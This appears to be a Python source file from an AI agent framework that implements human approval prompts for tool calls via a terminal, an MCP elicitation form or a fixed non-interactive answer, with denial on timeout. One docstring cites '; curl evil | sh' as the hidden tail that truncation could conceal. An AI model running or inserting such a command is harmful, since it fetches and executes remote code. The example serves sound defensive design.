"""Prompt transports: how an ``ask`` decision reaches a person, or what answers when nobody can.

:class:`TerminalPrompt` asks on a terminal (once / session / always / deny);
:class:`ElicitationPrompt` asks the person behind an MCP client with an elicitation form (the
same text, the same choices); :class:`NonInteractivePrompt` gives the configured
``approvals.non_interactive`` answer at once. An unanswered prompt is a denial after
``approvals.timeout`` seconds. A transport only asks: the dispatcher decides what an answer
does (remembering *session* and *always* answers included).
"""

from __future__ import annotations

import json
import os
import select
import time
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from typing import IO, Any, Final, Literal, Protocol, runtime_checkable

from hermes_core._shown import printable

Answer = Literal["once", "session", "always", "deny"]

_ANSWERS: Final[dict[str, Answer]] = {
    "o": "once",
    "once": "once",
    "y": "once",
    "yes": "once",
    "s": "session",
    "session": "session",
    "a": "always",
    "always": "always",
    "d": "deny",
    "deny": "deny",
    "n": "deny",
    "no": "deny",
}


_SHOWN_CHARS: Final = 200

_CHOICE_TITLES: Final[dict[Answer, str]] = {
    "once": "Allow once",
    "session": "Allow for this session",
    "always": "Always allow (saved to approvals.allow)",
    "deny": "Deny",
}


@dataclass(frozen=True)
class ApprovalRequest:
    """What a person is asked about: the real tool, its (redacted) arguments and why.

    ``remember_as`` is the pattern a "session" or "always" answer stores; ``shown_in_full``
    names the arguments a prompt must never shorten (the shell command being approved: a cut
    would hide ``; curl evil | sh`` at its end).
    """

    tool_name: str
    arguments: dict[str, Any] = field(default_factory=dict)
    reason: str = ""
    remember_as: str = ""
    shown_in_full: frozenset[str] = frozenset()


def question_text(request: ApprovalRequest) -> str:
    """What every prompt shows: the tool, the reason, and each argument on its own line, with
    non-printable characters escaped and long values cut (except ``shown_in_full`` ones)."""
    lines = [f"hermes: the tool {printable(repr(request.tool_name))} needs approval"]
    if request.reason:
        lines.append(f"  reason: {printable(request.reason)}")
    for key, value in request.arguments.items():
        shown = value if isinstance(value, str) else json.dumps(value, default=repr)
        if key not in request.shown_in_full and len(shown) > _SHOWN_CHARS:
            shown = f"{shown[:_SHOWN_CHARS]}... ({len(shown) - _SHOWN_CHARS} more characters)"
        lines.append(f"  {printable(str(key))}: {printable(shown)}")
    return "\n".join(lines)


@runtime_checkable
class PromptTransport(Protocol):
    """Asks a person to approve a call."""

    @property
    def interactive(self) -> bool:
        """Whether a person is there to answer."""
        ...

    async def ask(self, request: ApprovalRequest, timeout: float) -> Answer | None:
        """The answer, or ``None`` when nobody answered within ``timeout`` seconds."""
        ...


@dataclass(frozen=True)
class NonInteractivePrompt:
    """The answer when nobody can be asked (serve, cron, scripts): ``approvals.non_interactive``."""

    answer: Literal["deny", "allow"] = "deny"
    interactive: bool = False

    async def ask(self, request: ApprovalRequest, timeout: float) -> Answer | None:
        """``once`` when the configured answer is ``allow``, else ``deny``."""
        return "once" if self.answer == "allow" else "deny"


class TerminalPrompt:
    """Asks on a terminal: reads a line from ``input`` and writes the question to ``output``.

    ``input`` is a file object with a file descriptor (a tty, a pty, a pipe); it is read with
    ``os.read`` after ``select`` so a prompt nobody answers ends at its deadline instead of
    leaving a thread blocked. End of input is a denial.
    """

    interactive = True

    def __init__(self, input: IO[Any] | int, output: IO[str]) -> None:
        self._fd = input if isinstance(input, int) else input.fileno()
        self._output = output

    async def ask(self, request: ApprovalRequest, timeout: float) -> Answer | None:
        """Ask until a valid answer, end of input or ``timeout`` seconds."""
        import anyio.to_thread  # only when someone is asked: plugin listings stay light

        return await anyio.to_thread.run_sync(
            self._ask_blocking, request, time.monotonic() + timeout, abandon_on_cancel=True
        )

    def _ask_blocking(self, request: ApprovalRequest, deadline: float) -> Answer | None:
        self._write(f"\n{question_text(request)}\nAllow? [o]nce, [s]ession, [a]lways, [d]eny: ")
        while True:
            line = self._read_line(deadline)
            if line is None:
                self._write("\nno answer: denied\n")
                return None
            if line == "\x04":
                self._write("\nend of input: denied\n")  # Ctrl-D echoes no line end
                return "deny"
            answer = _ANSWERS.get(line.strip().lower())
            if answer is not None:
                return answer
            self._write("please answer o (once), s (session), a (always) or d (deny): ")

    def _write(self, text: str) -> None:
        write_flushed(self._output, text)

    def _read_line(self, deadline: float) -> str | None:
        return read_line(self._fd, deadline)


def write_flushed(output: IO[str], text: str) -> None:
    """Write ``text`` to the terminal ``output`` at once; a terminal gone (closed, hung up)
    is not an error of the question being asked."""
    try:
        output.write(text)
        output.flush()
    except (OSError, ValueError):
        pass


def read_line(fd: int, deadline: float) -> str | None:
    """One line from ``fd``, ``"\\x04"`` at end of input, ``None`` at the ``deadline``
    (``time.monotonic()``); read with ``os.read`` after ``select`` so nobody answering ends at
    the deadline instead of leaving a thread blocked."""
    data = bytearray()
    while True:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return None
        ready, _, _ = select.select([fd], [], [], remaining)
        if not ready:
            return None
        chunk = os.read(fd, 1)
        if not chunk:
            return "\x04" if not data else data.decode("utf-8", "replace")
        if chunk in (b"\n", b"\r"):
            return data.decode("utf-8", "replace")
        data.extend(chunk)


class ElicitReply(Protocol):
    """What an MCP client answers to an elicitation (``mcp_types.ElicitResult`` is one)."""

    @property
    def action(self) -> str:
        """``accept``, ``decline`` or ``cancel``."""
        ...

    @property
    def content(self) -> Mapping[str, Any] | None:
        """The submitted form when ``action`` is ``accept``."""
        ...


Elicit = Callable[[str, dict[str, Any]], Awaitable[ElicitReply]]
"""Sends one form elicitation (message, requested schema) to the client and returns its reply."""

ANSWER_FIELD: Final = "answer"
"""The one field of the approval form: the chosen answer."""


class ElicitationPrompt:
    """Asks the person behind an MCP client: one form elicitation whose message is the text the
    terminal prompt shows and whose one field is a choice of once / session / always / deny.

    ``elicit`` carries the form to the client (the serve layer provides it for the protocol era
    of the connection). ``offer_session`` is ``False`` where a *session* lasts one request
    (stateless HTTP), so that choice is not offered. A declined or dismissed form, or an answer
    that is not one of the choices, is a denial: only a person's explicit choice allows.
    """

    interactive = True

    def __init__(self, elicit: Elicit, *, offer_session: bool = True) -> None:
        self._elicit = elicit
        self.choices: tuple[Answer, ...] = tuple(
            answer for answer in _CHOICE_TITLES if offer_session or answer != "session"
        )

    @property
    def elicit(self) -> Elicit:
        """How this prompt reaches its client (a question of ``clarify`` goes the same way)."""
        return self._elicit

    def requested_schema(self) -> dict[str, Any]:
        """The form: one required single-choice string field, ``answer``."""
        options = [{"const": answer, "title": _CHOICE_TITLES[answer]} for answer in self.choices]
        return {
            "type": "object",
            "properties": {
                ANSWER_FIELD: {
                    "type": "string",
                    "title": "Allow this call?",
                    "oneOf": options,
                }
            },
            "required": [ANSWER_FIELD],
        }

    async def ask(self, request: ApprovalRequest, timeout: float) -> Answer | None:
        """Send the form and map the reply to an answer; the dispatcher enforces ``timeout``."""
        reply = await self._elicit(question_text(request), self.requested_schema())
        if reply.action != "accept" or reply.content is None:
            return "deny"
        chosen = reply.content.get(ANSWER_FIELD)
        for answer in self.choices:
            if chosen == answer:
                return answer
        return "deny"
